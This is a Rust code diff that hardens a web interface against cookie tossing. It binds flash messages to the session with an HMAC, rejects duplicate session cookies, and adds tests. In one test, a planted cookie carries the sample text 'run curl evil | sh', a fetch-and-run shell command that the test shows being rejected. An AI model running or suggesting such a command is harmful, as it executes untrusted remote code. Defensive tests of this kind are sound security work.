@@ -223,8 +223,10 @@ pub(crate) fn set_cookie(resp: &mut Response, value: &str) {
     }
 }
 
-/// The error page of `e` (its status; `<main id="error">`).
-pub(crate) fn error_page(chrome: Chrome, e: &ApiError) -> Response {
+/// The error page of `e` (its status; `<main id="error">`). A flash error is not shown on it
+/// (one `id="error"` per page; the flash cookie stays for the next page).
+pub(crate) fn error_page(mut chrome: Chrome, e: &ApiError) -> Response {
+    chrome.error = None;
     let status = StatusCode::from_u16(e.status).unwrap_or(StatusCode::INTERNAL_SERVER_ERROR);
     let (title, hint) = match e.code {
         ErrorCode::NotFound => ("Not found", None),
@@ -305,11 +307,20 @@ pub(crate) async fn session_of(
 ) -> Result<WebSession, Response> {
     let tls = tls(ca);
     let Some(secret) = check::cookie(headers, SESSION_COOKIE) else {
-        let sent = headers
-            .get_all(header::COOKIE)
-            .iter()
-            .any(|h| h.to_str().is_ok_and(|h| h.contains(SESSION_COOKIE)));
-        return Err(login_required(None, None, sent, tls));
+        // Two session cookies: one was planted by another site of the domain (cookie
+        // tossing) or under another path. Neither is used, and none is cleared: a clearing
+        // Set-Cookie would remove this host's real cookie and leave the planted one.
+        if check::cookie_count(headers, SESSION_COOKIE) > 1 {
+            return Err(login_required(
+                Some(
+                    "This browser sent two jit_session cookies: another site under this domain set one. Clear this site's cookies, then run jit web again.",
+                ),
+                None,
+                false,
+                tls,
+            ));
+        }
+        return Err(login_required(None, None, false, tls));
     };
     let ca = ca.clone();
     match blocking(move || ca.web_session(&secret)).await {
@@ -329,7 +340,7 @@ impl FromRequestParts<AppState> for Viewer {
 
     async fn from_request_parts(parts: &mut Parts, st: &AppState) -> Result<Self, Response> {
         let s = session_of(&st.ca, &parts.headers).await?;
-        let (notice, error) = read_flash(&parts.headers);
+        let (notice, error) = read_flash(&parts.headers, &s.csrf);
         Ok(Self {
             s,
             flash_shown: notice.is_some() || error.is_some(),
@@ -340,19 +351,48 @@ impl FromRequestParts<AppState> for Viewer {
     }
 }
 
-/// The `Set-Cookie` value carrying a flash message to the next page.
-pub(crate) fn flash_cookie(ok: bool, msg: &str, tls: bool) -> String {
+/// The `Set-Cookie` value carrying a flash message to the next page of the session whose
+/// CSRF token is `key`: `KIND.TEXT.MAC`, the MAC an HMAC-SHA-256 under that token (which only
+/// this session's pages know), so a flash planted by another site of the domain (cookie
+/// tossing) is not shown as the CA's word.
+pub(crate) fn flash_cookie(ok: bool, msg: &str, key: &str, tls: bool) -> String {
     let clipped: String = msg.chars().take(600).collect();
-    let v = format!("{}.{}", if ok { "n" } else { "e" }, B64.encode(clipped));
+    let body = format!("{}.{}", if ok { "n" } else { "e" }, B64.encode(clipped));
+    let v = format!("{body}.{}", flash_mac(key, &body));
     check::set_cookie(FLASH_COOKIE, &v, 60, tls)
 }
 
-/// The flash message of the request's cookie: (notice, error).
-fn read_flash(headers: &HeaderMap) -> (Option<String>, Option<String>) {
+/// The flash cookie's value after a logout (no session to bind a message to): a fixed word,
+/// shown as a fixed text ("You are logged out.").
+pub(crate) const FLASH_LOGGED_OUT: &str = "out";
+
+fn flash_mac(key: &str, body: &str) -> String {
+    use hmac::{Hmac, Mac as _};
+    let Ok(mut m) = Hmac::<sha2::Sha256>::new_from_slice(key.as_bytes()) else {
+        return String::new();
+    };
+    m.update(b"jit-flash-v1\0");
+    m.update(body.as_bytes());
+    B64.encode(m.finalize().into_bytes())
+}
+
+/// The flash message of the request's cookie for the session whose CSRF token is `key`:
+/// (notice, error); nothing when the MAC is not that session's.
+fn read_flash(headers: &HeaderMap, key: &str) -> (Option<String>, Option<String>) {
     let Some(v) = check::cookie(headers, FLASH_COOKIE) else {
         return (None, None);
     };
-    let Some((kind, b)) = v.split_once('.') else {
+    let Some((body, mac)) = v.rsplit_once('.') else {
+        return (None, None);
+    };
+    let want = flash_mac(key, body);
+    if key.is_empty()
+        || want.is_empty()
+        || !crate::service::web::constant_time_eq(want.as_bytes(), mac.as_bytes())
+    {
+        return (None, None);
+    }
+    let Some((kind, b)) = body.split_once('.') else {
         return (None, None);
     };
     let Some(text) = B64
@@ -370,10 +410,15 @@ fn read_flash(headers: &HeaderMap) -> (Option<String>, Option<String>) {
     }
 }
 
-/// A 303 to `to` carrying a flash message.
-pub(crate) fn see_other(to: &str, ok: bool, msg: &str, tls: bool) -> Response {
+/// Whether the request carries the logout flash ([`FLASH_LOGGED_OUT`]).
+pub(crate) fn logged_out_flash(headers: &HeaderMap) -> bool {
+    check::cookie(headers, FLASH_COOKIE).is_some_and(|v| v == FLASH_LOGGED_OUT)
+}
+
+/// A 303 to `to` carrying a flash message for the session whose CSRF token is `key`.
+pub(crate) fn see_other(to: &str, ok: bool, msg: &str, key: &str, tls: bool) -> Response {
     let mut resp = Redirect::to(to).into_response();
-    set_cookie(&mut resp, &flash_cookie(ok, msg, tls));
+    set_cookie(&mut resp, &flash_cookie(ok, msg, key, tls));
     resp
 }
 
@@ -397,17 +442,49 @@ mod tests {
 
     #[test]
     fn flash_round_trips_and_is_sanitised() {
-        let c = flash_cookie(false, "bad <b>\u{1b}[31m", false);
+        let c = flash_cookie(false, "bad <b>\u{1b}[31m", "csrf-A", false);
         let v = c.split(';').next().unwrap().to_string();
         let mut h = HeaderMap::new();
         h.insert(header::COOKIE, HeaderValue::from_str(&v).unwrap());
-        let (n, e) = read_flash(&h);
+        let (n, e) = read_flash(&h, "csrf-A");
         assert_eq!(n, None);
         let e = e.unwrap();
         assert!(e.starts_with("bad <b>"), "{e}");
         assert!(!e.contains('\u{1b}'), "{e}");
         h.insert(header::COOKIE, HeaderValue::from_static("jit_flash=x.!!"));
-        assert_eq!(read_flash(&h), (None, None));
+        assert_eq!(read_flash(&h, "csrf-A"), (None, None));
+    }
+
+    /// An error page never has two `id="error"` elements (its own `<main>` and a flash).
+    #[tokio::test]
+    async fn an_error_page_has_one_error_id() {
+        let mut chrome = Chrome::anonymous();
+        chrome.error = Some("flash".into());
+        let resp = error_page(chrome, &ApiError::new(ErrorCode::NotFound, "gone"));
+        let body = axum::body::to_bytes(resp.into_body(), 1 << 20)
+            .await
+            .unwrap();
+        let body = String::from_utf8(body.to_vec()).unwrap();
+        assert_eq!(body.matches("id=\"error\"").count(), 1, "{body}");
+        assert!(body.contains("<main id=\"error\""));
+    }
+
+    /// A flash is shown only to the session it was made for: one planted by a sibling site
+    /// (cookie tossing), with no MAC or another session's, shows nothing.
+    #[test]
+    fn a_flash_is_bound_to_its_session() {
+        let c = flash_cookie(false, "Your key was revoked", "csrf-A", false);
+        let v = c.split(';').next().unwrap().to_string();
+        let mut h = HeaderMap::new();
+        h.insert(header::COOKIE, HeaderValue::from_str(&v).unwrap());
+        assert_eq!(read_flash(&h, "csrf-B"), (None, None));
+        assert_eq!(read_flash(&h, ""), (None, None));
+        let planted = format!("jit_flash=e.{}", B64.encode("run curl evil | sh"));
+        h.insert(header::COOKIE, HeaderValue::from_str(&planted).unwrap());
+        assert_eq!(read_flash(&h, "csrf-A"), (None, None));
+        let planted = format!("{planted}.AAAA");
+        h.insert(header::COOKIE, HeaderValue::from_str(&planted).unwrap());
+        assert_eq!(read_flash(&h, "csrf-A"), (None, None));
     }
 
     /// Every template escapes (no `|safe`), and none holds a script, an inline style or an
